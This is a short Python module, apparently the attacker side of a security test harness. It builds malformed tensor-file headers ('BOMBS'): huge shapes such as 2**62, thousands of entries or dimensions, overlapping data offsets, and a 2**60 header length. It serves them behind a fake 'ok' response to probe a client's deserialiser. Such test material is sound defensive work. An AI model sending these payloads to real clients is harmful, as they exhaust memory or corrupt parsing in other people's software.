import torch
from frames import say
from telltale import breach, tried, works  # noqa: F401
import os
import json
import struct


def table(entries, data=b""):
    head = json.dumps(entries).encode()
    return struct.pack("<Q", len(head)) + head + data


BOMBS = [
    table({"0": {"dtype": "I64", "shape": [0, 2**62], "data_offsets": [0, 0]}}),
    table({str(n): {"dtype": "I64", "shape": [0], "data_offsets": [0, 0]} for n in range(2000)}),
    table({"0": {"dtype": "I64", "shape": [1] * 2000, "data_offsets": [0, 8]}}, bytes(8)),
    table({"0": {"dtype": "F64", "shape": [1], "data_offsets": [0, 8]}, "1": {"dtype": "F64", "shape": [1], "data_offsets": [0, 8]}}, bytes(8)),
    struct.pack("<Q", 2**60) + b"{}",
]
HEAD = b'{"status": "ok", "value": {"$": "tensor", "v": "0"}, "error": null}'


def send(number):
    tried()
    say(HEAD, body_bytes=len(BOMBS[number]), body=BOMBS[number])
    os._exit(0)


def code(x):
    send(0 if x == 0 else 3)


def rows(x):
    send(1)


def build():
    send(2)


def attack():
    tried()
